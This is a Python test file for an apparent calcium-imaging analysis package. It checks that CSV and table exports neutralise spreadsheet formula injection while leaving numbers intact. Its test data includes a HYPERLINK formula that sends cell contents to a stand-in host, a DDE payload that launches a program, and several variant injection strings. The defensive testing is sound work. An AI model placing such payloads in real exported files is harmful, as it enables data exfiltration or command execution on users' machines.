"""No name in a table runs as a formula where a spreadsheet opens it, and numbers stay numbers."""

from __future__ import annotations

import csv
from dataclasses import replace
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from helpers.example_cells import make_example
from helpers.example_runs import make_run

from calcium_lightning.comparison.compare import compare_runs
from calcium_lightning.comparison.runs import read_runs
from calcium_lightning.core.plain import FORMULA, plain_cell
from calcium_lightning.core.tracks import TrackedSession, Tracks
from calcium_lightning.io.writers.csv import to_csv
from calcium_lightning.io.writers.napari import write as write_napari
from calcium_lightning.io.writers.table import Export
from calcium_lightning.io.writers.tracks_csv import export_tracks_csv
from calcium_lightning.pages.comparison import write as write_comparison

ATTACK = '=HYPERLINK("http://x/?"&A1,"see")'


def cells_of(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as stream:
        return [cell for row in csv.reader(stream) for cell in row]


def harmless(path: Path) -> bool:
    """Nothing begins like a formula, but for numbers, and the attack is there to be seen."""
    texts = cells_of(path)
    assert f"'{ATTACK}" in texts
    return not any(text.startswith(FORMULA) and plain_cell(text) != text for text in texts)


@pytest.mark.parametrize("text", [ATTACK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\uff1d1"])
def test_text_that_would_run_gets_a_quote_in_front(text):
    assert plain_cell(text) == f"'{text}"
    assert plain_cell(Path("=a.h5")) == "'=a.h5"


@pytest.mark.parametrize(
    "value", [-1.5, -3, "-1.5", "+2", "-1e-05", "-.5", "", "a=1", None, True, np.float32(-1)]
)
def test_numbers_and_other_text_stay_as_they_are(value):
    assert plain_cell(value) is value


def test_every_table_is_harmless(tmp_path):
    cells, _ = make_example(4)
    cells = replace(cells, quality={**cells.quality, ATTACK: np.full(4, -0.5, np.float32)})
    to_csv(cells, tmp_path / "cells.csv", rejected=True)
    assert harmless(tmp_path / "cells.csv")
    assert (pd.read_csv(tmp_path / "cells.csv")[f"'{ATTACK}"] == -0.5).all()

    write_napari(cells, tmp_path / "layers", Export())
    assert harmless(tmp_path / "layers/centers.csv")

    session = TrackedSession(
        name=ATTACK,
        path="a.h5",
        sha256="",
        frame_shape=(9, 9),
        cells=1,
        used=1,
        transform=None,
        residual_px=0.0,
        agreement=0.0,
        chance=0.0,
    )
    one = np.zeros((1, 1))
    tracks = Tracks(
        cell=one.astype(np.int32) - 1, probability=one.astype(np.float32), sessions=(session,), reference=0
    )
    export_tracks_csv(tracks, tmp_path / "tracks.csv")
    assert harmless(tmp_path / "tracks.csv")
    assert pd.read_csv(tmp_path / "tracks.csv")[f"'{ATTACK}"].tolist() == [-1]

    runs = [make_run(tmp_path / "runs/0", [f"seed={ATTACK}"], [-2.0], error=ATTACK)]
    runs.append(make_run(tmp_path / "runs/1", ["seed=1"], [-1.0]))
    write_comparison(compare_runs(read_runs(runs)), tmp_path / "page.html", tmp_path / "runs.csv")
    assert harmless(tmp_path / "runs.csv")
    assert "-2.0" in cells_of(tmp_path / "runs.csv")
